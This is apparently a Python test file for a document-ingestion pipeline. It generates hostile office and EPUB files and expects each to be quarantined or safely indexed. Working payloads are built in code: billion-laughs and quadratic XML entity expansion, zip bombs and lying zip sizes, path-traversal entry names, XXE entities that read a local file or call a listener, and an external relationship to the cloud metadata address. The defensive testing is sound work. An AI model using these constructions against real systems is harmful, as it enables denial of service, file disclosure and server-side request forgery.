"""Rows 12 to 19, 21 and 24: office files that blow up, lie, point elsewhere or hold a DTD; and an EPUB."""

import io
import re
import zipfile
from collections.abc import Callable, Mapping

from rag_pipeline_tests import documents
from rag_pipeline_tests.hostile.case import ABSOLUTE_OUTSIDE, CANARY_FILE, LISTENER, Case, indexed, quarantined
from rag_pipeline_tests.hostile.zip_writer import Part, blank_part, part, write_zip

HELD = "Revenue grew by a tenth"
_WORD = "word/document.xml"
_OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 if n > 1 else str()};" * 10}">\n' for n in range(1, 10))
    + "]>\n<lolz>&lol9;</lolz>\n"
)
QUADRATIC = f'<?xml version="1.0"?>\n<!DOCTYPE q [\n<!ENTITY a "{"a" * 50_000}">\n]>\n<q>{"&a;" * 50_000}</q>\n'


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of an office file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def office(data: bytes, **changes: Callable[[bytes], bytes]) -> bytes:
    """The file with parts rewritten; a part is named by the end of its path without its dot."""
    found = parts_of(data)
    for name in found:
        for ending, change in changes.items():
            if re.sub(r"\W", "_", name).endswith(ending):
                found[name] = change(found[name])
    return packed(found)


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A zip file of the parts, honest."""
    return write_zip([part(name, data) for name, data in parts.items()])


def _with(data: bytes, *more: Part, without: str = "") -> bytes:
    kept = [part(name, held) for name, held in parts_of(data).items() if name != without]
    return write_zip([*kept, *more])


def _lying() -> bytes:
    body = parts_of(documents.docx())[_WORD]
    return _with(documents.docx(), part(_WORD, body + b" " * (1 << 20), claimed_size=len(body) // 2), without=_WORD)


def _outside_names() -> bytes:
    names = ("../../../outside.txt", str(ABSOLUTE_OUTSIDE), "..\\..\\outside-windows.txt")
    return _with(documents.docx(), *(part(name, b"written outside") for name in names))


def _remote() -> bytes:
    relation = (
        '<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        'Target="%s" TargetMode="External"/>'
    )
    more = relation % (901, "attachedTemplate", f"{LISTENER}/template.dotm") + relation % (
        902,
        "image",
        "http://169.254.169.254/latest/meta-data/",
    )
    return office(
        documents.docx(), document_xml_rels=lambda rels: rels.replace(b"</Relationships>", more.encode() + b"</Relationships>")
    )


def _declare(text: str, use: str) -> Callable[[bytes], bytes]:
    """A change of a document's XML: declarations before it, a use in its first text."""

    def change(xml: bytes) -> bytes:
        head, found, rest = xml.partition(b"?>")
        return head + found + text.encode() + rest.replace(b"Revenue grew", use.encode() + b" Revenue grew", 1)

    return change


def _file_entity() -> bytes:
    text = f'<!DOCTYPE d [<!ENTITY canary SYSTEM "file://{CANARY_FILE}">]>'
    return office(documents.docx(), word_document_xml=_declare(text, "&canary;"))


def _web_entity() -> bytes:
    text = f'<!DOCTYPE d SYSTEM "{LISTENER}/d.dtd" [<!ENTITY canary SYSTEM "{LISTENER}/e">]>'
    return office(documents.docx(), word_document_xml=_declare(text, "&canary;"))


def _laughing() -> bytes:
    text = LAUGHS.split("?>\n", 1)[1].split("<lolz>")[0]
    return office(documents.docx(), word_document_xml=_declare(text, "&lol9;"))


def sheet(rows: str, *, dimension: str = "A1:XFD1048576") -> Callable[[bytes], bytes]:
    """A change that makes these the rows of a sheet."""
    return lambda _: (
        f'<worksheet xmlns="{_MAIN}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'.encode()
    )


def _claimed_cells() -> bytes:
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>harbour dues</t></is></c></row>'
    return office(documents.xlsx(), sheet1_xml=sheet(rows))


def _far_cells() -> bytes:
    rows = "".join(f'<row r="{row}"><c r="XFD{row}"><v>1</v></c></row>' for row in range(1, 401))
    return office(documents.xlsx(), sheet1_xml=sheet(rows))


def _shared_text() -> bytes:
    text = f'<sst xmlns="{_MAIN}" count="1" uniqueCount="1"><si><t>{"harbour " * 4000}</t></si></sst>'
    rows = "".join(f'<row r="{row}">' + '<c t="s"><v>0</v></c>' * 100 + "</row>" for row in range(1, 201))
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    named = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    changed = office(
        documents.xlsx(), sheet1_xml=sheet(rows), Content_Types__xml=lambda xml: xml.replace(b"</Types>", named.encode())
    )
    return _with(changed, part("xl/sharedStrings.xml", text.encode()), without="xl/sharedStrings.xml")


def _word_bomb() -> bytes:
    return _with(documents.docx(), blank_part(_WORD, 2048), without=_WORD)


def _slide_bomb() -> bytes:
    slide = "ppt/slides/slide1.xml"
    return _with(documents.pptx(), blank_part(slide, 400), without=slide)


def _many_parts() -> bytes:
    return _with(documents.pptx(), *(Part(f"x/{number}", b"", 0, 0, method=0) for number in range(20_000)))


def _overlapping() -> bytes:
    parts = [part(name, data) for name, data in parts_of(documents.pptx()).items()]
    return write_zip([*parts, part("ppt/media/a.xml", b"<a/>")], copies_of_last=100)


def _protected() -> bytes:
    return (
        _OLE_HEAD
        + b"\0" * 504
        + "Root Entry".encode("utf-16-le")
        + b"\0" * 44
        + "EncryptedPackage".encode("utf-16-le")
        + b"\0" * 1000
    )


def _epub() -> bytes:
    declared = f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file://{CANARY_FILE}">]>'
    opf = declared + '<package><item href="../../../x"/>&x;</package>'
    return packed({"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<container/>", "content.opf": opf.encode()})


CASES: tuple[Case, ...] = (
    quarantined(12, "two-gigabytes.docx", _word_bomb, "limit_expansion"),
    indexed(13, "claims-all-cells.xlsx", _claimed_cells, holds="harbour dues"),
    quarantined(13, "far-cells.xlsx", _far_cells, "limit_cells", is_slow=True),
    quarantined(13, "shared-text.xlsx", _shared_text, "limit_cells", is_slow=True),
    quarantined(14, "slide-400-mb.pptx", _slide_bomb, "limit_expansion"),
    quarantined(14, "many-parts.pptx", _many_parts, "limit_entries"),
    quarantined(14, "overlapping.pptx", _overlapping, "limit_expansion"),
    quarantined(15, "lying-sizes.docx", _lying, "malformed"),
    indexed(16, "outside-names.docx", _outside_names, holds=HELD, lacks="written outside"),
    indexed(17, "remote-template.docx", _remote, holds=HELD),
    quarantined(18, "password.docx", _protected, "encrypted"),
    quarantined(19, "file-entity.docx", _file_entity, "malformed"),
    quarantined(20, "web-entity.docx", _web_entity, "malformed"),
    quarantined(21, "billion-laughs.docx", _laughing, "limit_expansion"),
    quarantined(24, "book.epub", _epub, "unsupported_type"),
    quarantined(28, "zip-as.docx", lambda: packed({"a.txt": b"just a file"}), "unsupported_type"),
)
